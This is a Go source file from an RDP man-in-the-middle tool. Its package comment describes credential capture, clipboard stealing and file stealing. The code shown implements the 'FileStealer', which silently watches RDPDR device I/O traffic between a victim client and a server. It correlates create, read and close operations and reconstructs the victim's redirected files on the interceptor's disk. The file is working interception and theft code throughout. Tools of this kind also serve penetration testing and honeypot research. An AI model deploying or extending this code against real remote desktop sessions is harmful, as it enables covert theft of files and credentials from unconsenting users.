// Package mitm implements the RDP man-in-the-middle orchestrator: the
// victim-facing and target-facing connection state machines, the
// credential capture/replacement rule, the active clipboard stealer and
// the passive RDPDR file stealer, wired together per spec.md §4.7-§4.9.
package mitm

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"sync"

	"github.com/GoFeGroup/rdpmitm/glog"
	"github.com/GoFeGroup/rdpmitm/proto/device"
)

// requestKind records which IRP_MJ_* a pending completionId will complete.
type requestKind int

const (
	requestCreate requestKind = iota
	requestRead
	requestClose
)

// pendingRequest is what ObserveRequest remembers about one in-flight
// request, keyed by CompletionID, until its matching completion arrives.
type pendingRequest struct {
	kind   requestKind
	fileID uint32 // requestRead/requestClose: the handle the request named
	path   string // requestCreate: the path the request asked to open
	offset uint64 // requestRead: where ReadData belongs in the reconstructed file
}

// trackedFile is one handle the stealer has decided is worth reconstructing.
type trackedFile struct {
	path string
	file *os.File
}

// FileStealer implements the passive RDPDR stealer: it never originates a
// request, only watches Create/Read/Close requests travelling client to
// server and their completions travelling server to client, correlating
// both by CompletionID through a single shared table — the design spec.md
// §9 calls for in place of pyrdp's mutable cross-references between a
// request-side and response-side object. Every observed PDU is still
// forwarded to its peer unchanged by the caller; FileStealer only watches.
type FileStealer struct {
	mu      sync.Mutex
	baseDir string

	pending     map[uint32]*pendingRequest
	openedFiles map[uint32]*trackedFile
}

// NewFileStealer returns a stealer that reconstructs files under baseDir,
// which the caller has already resolved (including any session-id prefix
// per config.SavedFilesConfig).
func NewFileStealer(baseDir string) *FileStealer {
	return &FileStealer{
		baseDir:     baseDir,
		pending:     make(map[uint32]*pendingRequest),
		openedFiles: make(map[uint32]*trackedFile),
	}
}

// ObserveRequest inspects one client-to-server RDPDR PDU. Anything other
// than a device I/O request, or an I/O request the stealer doesn't care
// about (a Create that doesn't want to read a regular file, a Read/Close
// against an untracked handle), is a silent no-op.
func (fs *FileStealer) ObserveRequest(body []byte) {
	r := bytes.NewReader(body)
	var hdr device.Header
	hdr.Read(r)
	if hdr.Component != device.RDPDR_CTYP_CORE || hdr.Packet != device.PAKID_CORE_DEVICE_IOREQUEST {
		return
	}
	var ioReq device.DeviceIORequest
	ioReq.Read(r)

	switch ioReq.MajorFunction {
	case device.IRP_MJ_CREATE:
		req := &device.DeviceCreateRequest{DeviceIORequest: ioReq}
		req.Read(r)
		if !req.WantsRead() {
			return
		}
		fs.setPending(ioReq.CompletionID, &pendingRequest{kind: requestCreate, path: req.Path})

	case device.IRP_MJ_READ:
		if !fs.isTracked(ioReq.FileID) {
			return
		}
		req := &device.DeviceReadRequest{DeviceIORequest: ioReq}
		req.Read(r)
		fs.setPending(ioReq.CompletionID, &pendingRequest{kind: requestRead, fileID: ioReq.FileID, offset: req.Offset})

	case device.IRP_MJ_CLOSE:
		if !fs.isTracked(ioReq.FileID) {
			return
		}
		fs.setPending(ioReq.CompletionID, &pendingRequest{kind: requestClose, fileID: ioReq.FileID})
	}
}

// ObserveCompletion inspects one server-to-client RDPDR PDU, looks up the
// pending request its CompletionID matches, and on success advances the
// stealer's state: Create opens the destination file, Read writes at the
// request's offset, Close flushes and forgets the handle.
func (fs *FileStealer) ObserveCompletion(body []byte) {
	r := bytes.NewReader(body)
	var hdr device.Header
	hdr.Read(r)
	if hdr.Component != device.RDPDR_CTYP_CORE || hdr.Packet != device.PAKID_CORE_DEVICE_IOCOMPLETION {
		return
	}
	var comp device.DeviceIOCompletion
	comp.Read(r)

	pr, ok := fs.takePending(comp.CompletionID)
	if !ok || comp.IsError() {
		return
	}

	switch pr.kind {
	case requestCreate:
		var resp device.DeviceCreateResponse
		resp.Read(r)
		fs.handleCreateCompletion(pr.path, resp.FileID)

	case requestRead:
		var resp device.DeviceReadResponse
		resp.Read(r)
		fs.handleReadCompletion(pr.fileID, pr.offset, resp.ReadData)

	case requestClose:
		fs.handleCloseCompletion(pr.fileID)
	}
}

func (fs *FileStealer) handleCreateCompletion(path string, fileID uint32) {
	f, err := fs.openDestination(path)
	if err != nil {
		glog.Warnf("mitm: filestealer: open destination for %q: %v", path, err)
		return
	}
	fs.mu.Lock()
	fs.openedFiles[fileID] = &trackedFile{path: path, file: f}
	fs.mu.Unlock()
}

func (fs *FileStealer) handleReadCompletion(fileID uint32, offset uint64, data []byte) {
	fs.mu.Lock()
	tf, ok := fs.openedFiles[fileID]
	fs.mu.Unlock()
	if !ok {
		return
	}
	if _, err := tf.file.WriteAt(data, int64(offset)); err != nil {
		glog.Warnf("mitm: filestealer: write %q at offset %d: %v", tf.path, offset, err)
	}
}

func (fs *FileStealer) handleCloseCompletion(fileID uint32) {
	fs.mu.Lock()
	tf, ok := fs.openedFiles[fileID]
	delete(fs.openedFiles, fileID)
	fs.mu.Unlock()
	if !ok {
		return
	}
	if err := tf.file.Close(); err != nil {
		glog.Warnf("mitm: filestealer: close %q: %v", tf.path, err)
	}
}

func (fs *FileStealer) setPending(completionID uint32, pr *pendingRequest) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	fs.pending[completionID] = pr
}

func (fs *FileStealer) takePending(completionID uint32) (*pendingRequest, bool) {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	pr, ok := fs.pending[completionID]
	if ok {
		delete(fs.pending, completionID)
	}
	return pr, ok
}

func (fs *FileStealer) isTracked(fileID uint32) bool {
	fs.mu.Lock()
	defer fs.mu.Unlock()
	_, ok := fs.openedFiles[fileID]
	return ok
}

// openDestination sanitizes remotePath and opens (creating parent
// directories as needed) the local file it reconstructs into.
func (fs *FileStealer) openDestination(remotePath string) (*os.File, error) {
	full := filepath.Join(fs.baseDir, sanitizeRemotePath(remotePath))
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		return nil, err
	}
	return os.Create(full)
}

// sanitizeRemotePath turns an already UTF-16LE-decoded RDPDR path (e.g.
// `\tsclient\C\foo.txt`) into a safe relative path: backslashes become
// slashes and ".." (or empty) segments are dropped, per spec.md §4.6.
func sanitizeRemotePath(p string) string {
	p = strings.ReplaceAll(p, `\`, "/")
	parts := strings.Split(p, "/")
	clean := make([]string, 0, len(parts))
	for _, part := range parts {
		if part == "" || part == "." || part == ".." {
			continue
		}
		clean = append(clean, part)
	}
	if len(clean) == 0 {
		return "unnamed"
	}
	return filepath.Join(clean...)
}
